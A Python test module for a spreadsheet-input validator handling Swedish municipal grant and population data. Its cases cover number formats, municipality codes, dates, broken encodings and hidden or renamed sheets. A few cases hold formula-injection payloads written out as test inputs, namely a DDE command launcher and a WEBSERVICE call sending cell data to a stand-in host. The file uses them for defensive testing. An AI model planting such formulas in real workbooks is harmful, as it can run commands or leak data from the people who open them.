"""Cases 16 to 49 and 51: what stands in the cells that people fill in."""

from __future__ import annotations

from collections.abc import Mapping

from tests.badness.case import Case, Held, Maker
from tests.badness.cells import TRUE, Typed, error, formula, link, number, typed
from tests.badness.files import both, part, pointing, retitled, sheet_part, unseen
from tests.badness.proofs import as_delivered, plain_text, sheets_kept
from tests.badness.sheets import dated, host_1904, merged, stale, swapped, with_budget

OPENING, GRANT, PEOPLE = "fs_equity_opening_2026", "fs_grant_2026", "fs_population_9902_2025_06_30"
CODE, DATE, NAME = "fs_municipality_code_01", "fs_reference_date_2026", "fs_association_name"
COMMENT, FLOOR = "fs_activity_comment_01", "fs_equity_floor"
SPARE: Mapping[str, Typed] = {"fs_municipality_name_05": "Stockholm", "Befolkning!D13": 990_000,
                              "Befolkning!E13": 980_000}
NOTHING: Mapping[str, Typed] = {}


def bad(number: int, what: str, name: str, value: Typed, key: str, says: str | None = None,
        also: Mapping[str, Typed] = NOTHING) -> Case:
    """A cell that is refused, by its place and with what stands in it."""
    said = says if says is not None else value if isinstance(value, str) else ""
    return Case(number, what, typed({name: value, **also}), key, name, said)


def good(number: int, what: str, values: Mapping[str, Typed], after: Mapping[str, Held],
         key: str = "", place: str = "", says: str = "") -> Case:
    """Cells that are understood: what is said of them, and what they hold after a plan."""
    return Case(number, what, typed(values), key, place, says, ("plan",), 0, after=after)


def told(number: int, what: str, values: Mapping[str, Typed], key: str = "", place: str = "",
         says: str = "", code: int = 0) -> Case:
    """Cells that are worth a word when the book is looked at."""
    return Case(number, what, typed(values), key, place, says, ("check",), code)


def lost(number: int, what: str, made: Maker, key: str, place: str = "", says: str = "",
         verbs: tuple[str, ...] = ("plan", "check")) -> Case:
    """A sheet, a name or a range that is refused."""
    return Case(number, what, made, key, place, says, verbs)


CASES = (
    bad(16, "DDE", GRANT, formula("cmd|'/c calc'!A1", "4250"), "formula_in_input"),
    bad(16, "WEBSERVICE", NAME, formula('WEBSERVICE("http://x.example/?"&A1)', "Norra", "str"),
        "formula_in_input"),
    bad(16, "HYPERLINK", COMMENT, formula('HYPERLINK("http://x.example","Se")', "Se", "str"),
        "formula_in_input"),

    Case(17, "texts that begin as formulas do", typed({
        NAME: "=cmd|'/c calc'!A1", COMMENT: "+46 33 17 00 00", "fs_activity_comment_02": "-1+1",
        "fs_activity_comment_03": "@SUM(A1)", "fs_activity_comment_04": "\tcmd",
        "fs_scenario_name_01": "=1+1", "fs_activity_name_01": "=HYPERLINK(1)"}), "",
        verbs=("plan",), code=0, after={
            NAME: "=cmd|'/c calc'!A1", COMMENT: "+46 33 17 00 00", "fs_activity_comment_02": "-1+1",
            "fs_activity_comment_03": "@SUM(A1)", "fs_activity_comment_04": "cmd",
            "fs_scenario_name_01": "=1+1", "fs_activity_name_01": "=HYPERLINK(1)"},
        proof=plain_text(NAME, COMMENT, "fs_activity_comment_02", "fs_activity_comment_03",
                         "fs_activity_comment_04", "fs_scenario_name_01", "fs_activity_name_01")),
    Case(17, "the same, listed between tabs", typed({NAME: "=1+1", COMMENT: "@a\tb"}), "",
         verbs=("names",), code=0, says="\t'=1+1\t"),
    Case(18, "a text that is spelled like an error", typed({COMMENT: "#REF!"}), "",
         verbs=("plan",), code=0, after={COMMENT: "#REF!"}, proof=plain_text(COMMENT)),
    *(bad(19, f"{name} as an input", where, error(name), "error_value", name)
      for name, where in (("#N/A", GRANT), ("#REF!", NAME), ("#DIV/0!", PEOPLE), ("#NAME?", DATE),
                          ("#VALUE!", "fs_step_2026"), ("#NUM!", OPENING), ("#NULL!", CODE),
                          ("#SPILL!", "fs_basis_2026"))),
    bad(20, "a formula that no program has computed", GRANT, formula("4000+250"),
        "formula_in_input"),
    lost(20, "a link to a formula that no program has computed", both(
        with_budget(formula("SUM(B2:B9)")), typed({GRANT: link("Budget!$B$1", "4250")})),
        "link_stale", GRANT, "Budget!$B$1"),
    Case(21, "a result that a tool has changed behind the formula's back", stale, "",
         verbs=("plan",), code=0, proof=as_delivered),
    Case(21, "a link whose own stored value is old: the source's stored value holds", both(
        with_budget(formula("SUM(B2:B9)", "4252")), typed({GRANT: link("Budget!$B$1", "999")})),
        "", verbs=("plan",), code=0, after={GRANT: 4252}),
    Case(21, "a book that is calculated by hand", part(
        "xl/workbook.xml", ("<calcPr ", '<calcPr calcMode="manual" ')), "notice_manual",
        verbs=("plan",), code=0),

    good(22, "numbers as texts, with every kind of space", {
        GRANT: "4\u202f250", "fs_grant_2027": "4\u00a0300", "fs_grant_2028": "4\u2009400",
        PEOPLE: "19 034", OPENING: "1 650,50"},
        {GRANT: 4250, "fs_grant_2027": 4300, "fs_grant_2028": 4400, PEOPLE: 19_034},
        "rewritten", GRANT, "4<U+202F>250"),
    *(bad(22, f"a number in pieces, {written}", GRANT, written, "not_a_number")
      for written in ("4  250", "4'250", "42 50", "4_250")),
    told(23, "a minus of print", {OPENING: "\u2212500"}, "rewritten", OPENING,
         "-500", code=1),
    *(bad(23, f"a number below nothing, {written}", OPENING, written, "not_a_number")
      for written in ("–500", "(500)", "500-", "500\u2212")),
    *(bad(24, f"a number in two ways, {written}", GRANT, written, key)
      for written, key in (("4,250", "ambiguous_number"), ("4.250", "not_a_number"),
                           ("4.250,5", "not_a_number"), ("4,250.5", "not_a_number"))),
    *(bad(25, f"a unit in the cell, {written}", GRANT, written, "not_a_number")
      for written in ("4250 kr", "4250 tkr", "4,25 mnkr", "12,5 %", "≈4250", "ca 4250", "4250:-")),
    told(26, "a grant in kronor", {GRANT: 4_250_000}, "unit_suspected", GRANT,
         "4\u00a0250\u00a0000\u00a0000"),
    told(26, "a grant in millions in a plan year", {"fs_grant_2027": 4.3, "fs_step_2027": 1},
         "unit_suspected", "fs_grant_2027", "4\u00a0300", code=1),
    told(26, "an activity in kronor", {"fs_activity_amount_01_2026": 2_950_000},
         "unit_suspected", "fs_activity_amount_01_2026", "2\u00a0950\u00a0000\u00a0000", code=1),

    told(27, "a code that lost its nought", {**SPARE, "fs_municipality_code_05": 180}, "rewritten",
         "fs_municipality_code_05", "0180", 1),
    Case(28, "codes as a number with decimals, a short text and a text with blanks", typed({
        "fs_municipality_code_05": number("180.0"), "fs_municipality_name_05": "Stockholm",
        "fs_municipality_code_06": "184", "fs_municipality_name_06": "Solna",
        "fs_municipality_code_07": " 0186 ", "fs_municipality_name_07": "Lidingö",
        **{f"Befolkning!{column}{row}": 50_000 for column in "DE" for row in (13, 14, 15)}}),
        "rewritten", "fs_municipality_code_07", '" 0186 "', ("plan",), 1,
        after={f"fs_municipality_code_0{row}": code
               for row, code in ((5, "0180"), (6, "0184"), (7, "0186"))}),
    *(bad(28, f"no code at all, {written}", CODE, written, "not_a_code")
      for written in ("18", "01800", "O180", "14-43")),
    bad(29, "a code of no municipality", CODE, "1500", "municipality_unknown", "1500"),
    bad(29, "a code from before 2007", CODE, "1917", "municipality_unknown", "1917",
        {"fs_municipality_name_01": "Heby"}),
    bad(29, "a code and another's name", CODE, "1490", "municipality_misnamed", "Borås"),
    bad(30, "a municipality twice", "fs_municipality_code_05", "9901", "municipality_twice", "9901",
        {"fs_municipality_name_05": "Alm"}),
    bad(30, "a municipality twice, once as a number", "fs_municipality_code_05", 9901,
        "municipality_twice", "9901", {"fs_municipality_name_05": "Alm"}),
    bad(31, "municipalities that nobody counted", PEOPLE, None, "population_missing",
        "Björk, Ek, Rönn", {"fs_population_9903_2025_06_30": None,
                            "fs_population_9904_2025_06_30": None}),
    bad(31, "a municipality that is gone", "fs_stated_9904_2025", 161, "member_unknown", "9904",
        {"fs_municipality_code_04": None, "fs_municipality_name_04": None,
         "fs_population_9904_2025_06_30": None, "fs_population_9904_2024_06_30": None}),
    bad(31, "a year without its grant", GRANT, None, "missing_list", GRANT),
    bad(31, "a date without its column", DATE, "2023-06-30", "date_missing", "2023-06-30"),
    *(bad(32, f"{name} among the municipalities", "fs_municipality_name_05", name, "total_row",
          name, {"Befolkning!D13": 78_850}) for name in ("Summa", "Riket")),
    bad(32, "a total in the column of codes", "fs_municipality_code_05", "Totalt", "not_a_code"),
    bad(32, "a total among the activities", "fs_activity_name_08", "Summa insatser", "total_row",
        also={"fs_activity_amount_08_2026": 7010}),
    bad(32, "a total of the administration", "fs_administration_name_04", "TOTALT:", "total_row",
        also={"fs_administration_amount_04_2026": 1655}),
    *(lost(33, f"{what} below the table", typed({where: value}), "foreign_cell", where, str(value),
           verbs)
      for what, where, value, verbs in (
          ("a footnote", "Befolkning!B60", "* Källa: SCB", ("plan", "check")),
          ("another table", "Insatser!B60", "Insatser 2025", ("check",)),
          ("a sum", "Administration!C40", 1655, ("check",)))),
    lost(34, "heads that are one over two columns", merged("Befolkning", "D8:E8"), "sheet_holds",
         "Befolkning!D8:E8", verbs=("plan",)),
    lost(35, "cells that are one over two rows", merged("Insatser", "E6:E7"), "sheet_holds",
         "Insatser!E6:E7", verbs=("plan",)),
    *(Case(36, what, made, "hidden_inputs", sheet, verbs=("check",), code=0)
      for what, made, sheet in (
          ("a hidden row", sheet_part("Insatser", ('<row r="7"', '<row hidden="1" r="7"')),
           "Insatser"),
          ("a hidden column", sheet_part("Befolkning", ('<col min="4"', '<col hidden="1" min="4"')),
           "Befolkning"),
          ("a sheet that is very hidden", unseen("Administration", state="veryHidden"),
           "Administration"))),
    lost(36, "rows that a filter hides", sheet_part("Insatser", (
        "<dataValidations", '<autoFilter ref="B5:N21"/><dataValidations')), "sheet_holds",
        "Insatser!B5:N21", verbs=("plan",)),

    bad(37, "people fewer than none", PEOPLE, -1, "negative_count", "-1"),
    told(37, "a municipality where nobody lives", {PEOPLE: 0}),
    lost(38, "nobody anywhere", typed({
        f"fs_population_{code}_2025_06_30": 0 for code in (9901, 9902, 9903, 9904)}), "nobody",
        "fs_population_date_01"),
    bad(39, "half a person", PEOPLE, number("10234.5"), "not_whole_cell", "10234,5"),
    bad(40, "not a number", GRANT, number("NaN"), "not_a_number", "NaN"),
    bad(40, "a number without end", GRANT, number("INF"), "not_a_number", "Inf"),
    bad(40, "a truth for an amount", GRANT, TRUE, "truth_value"),
    bad(40, "a truth for people", PEOPLE, TRUE, "truth_value"),
    bad(40, "an empty text for an amount", GRANT, "", "missing_list", GRANT),
    bad(41, "less than a krona", GRANT, number("4250.12345"), "too_many_decimals", "4250,12345"),
    bad(41, "a tenth and two tenths", OPENING, number("0.30000000000000004"), "too_many_decimals",
        "0,30000000000000004"),
    Case(41, "an amount with the last digit of Excel", typed({
        OPENING: number("1650.2999999999999545")}), "", says="\t1650.3\t", verbs=("names",),
        code=0),
    bad(42, "more than is computed exactly", GRANT, number("9007199254740.994"), "beyond_exact"),
    bad(42, "more people than there are", PEOPLE, number("9007199254740993"), "beyond_exact"),
    good(43, "a grant that is paid back", {GRANT: -4250, OPENING: 50_000}, {
        "fs_contribution_FK_2026": -2_125_000, "fs_total_2026": -8_500_000,
        "fs_contribution_9904_2026": -165_122}),
    good(44, "no grant, then fewer kronor than municipalities", {
        GRANT: 0, "fs_grant_2027": number("0.002"), "fs_step_2027": 1, OPENING: 50_000},
        {"fs_total_2026": 0, "fs_total_2027": 4, "fs_contribution_9901_2027": 1,
         "fs_contribution_9904_2027": 0}),
    good(45, "a tie for the last krona: the lower code has it, though it stands below", {
        GRANT: number("0.002"), OPENING: 50_000,
        **{f"fs_population_{code}_2025_06_30": 100 for code in (9901, 9902, 9903, 9904)},
        CODE: "9902", "fs_municipality_name_01": "Björk", "fs_municipality_code_02": "9901",
        "fs_municipality_name_02": "Alm"},
        {"fs_contribution_9901_2026": 1, "fs_contribution_9902_2026": 0}),
    Case(46, "a plan in a book whose days begin in 1904", host_1904, "", verbs=("plan",), code=0,
         after={DATE: 45_838 - 1462, "fs_grant_2026": 4250}),
    *(bad(47, f"a date as {written}", DATE, written, "not_a_date")
      for written in ("30/6 2025", "30.6.2025", "2025-02-30", "250630")),
    bad(47, "the day that never was", DATE, 60, "not_a_date", "60"),
    bad(47, "a year that became a day of 1905", DATE, 2026, "not_a_date", "2026"),
    Case(47, "an amount that became a date", dated(GRANT, "46054"), "date_as_number", GRANT,
         "46054"),
    Case(47, "a year that is shown as a date", dated("fs_budget_year", "2026"), "date_as_number",
         "fs_budget_year", "2026"),
    *(bad(48, f"broken letters, {written}", NAME, written, "mojibake", written[-2:])
      for written in ("VÃ¤stra", "Ã…re", "Ã\u0085re", "Ã„lvsborg", "VP Â§ 5", "Norr â€“ Syd",
                      "Bor√•s", "Bor├Ñs", "Bor\ufffds")),
    good(48, "letters in two pieces", {NAME: "Bora\u030as", COMMENT: "\ufeffÅre"},
         {NAME: "Borås", COMMENT: "Åre"}, "rewritten", NAME, "Bora<U+030A>s"),
    good(49, "signs that nobody sees", {
        NAME: "Norra\u200bSkogen", COMMENT: "Ek ", "fs_region_name": "VG\u00a0region",
        "fs_activity_comment_02": "Upplands\u2011Bro", "fs_activity_host_01": "Alm\u200b "},
        {NAME: "NorraSkogen", COMMENT: "Ek", "fs_region_name": "VG region",
         "fs_activity_comment_02": "Upplands-Bro", "fs_activity_host_01": "Alm"},
        "rewritten", NAME, "Norra<U+200B>Skogen"),
    bad(49, "a letter of another alphabet in a host's name", "fs_activity_host_01", "\u0410lm",
        "host_unknown"),

    Case(51, "a sheet that was renamed", retitled("Befolkning", "Folkmängd"), "", verbs=("plan",),
         code=0, proof=sheets_kept("Folkmängd")),
    lost(51, "a sheet that was renamed behind its names' back", part(
        "xl/workbook.xml", ('<sheet name="Befolkning"', '<sheet name="Folkmängd"')),
        "sheet_missing", says="Befolkning"),
    Case(51, "a head that is spelled otherwise", typed({"Befolkning!C8": "Ort"}), "overwritten",
         "Befolkning!C8", verbs=("plan",), code=0, proof=as_delivered),
    Case(51, "columns that changed places, names and all", swapped(GRANT, "fs_grant_2027"), "",
         verbs=("plan",), code=0, after={"fs_grant_2026": 4250}, proof=as_delivered),
    lost(51, "a name that is gone", pointing(GRANT, ""), "name_missing", says=GRANT),
    lost(51, "a name whose cell was deleted", pointing("fs_equity_floor", "#REF!"), "name_missing",
         says="fs_equity_floor"),
)
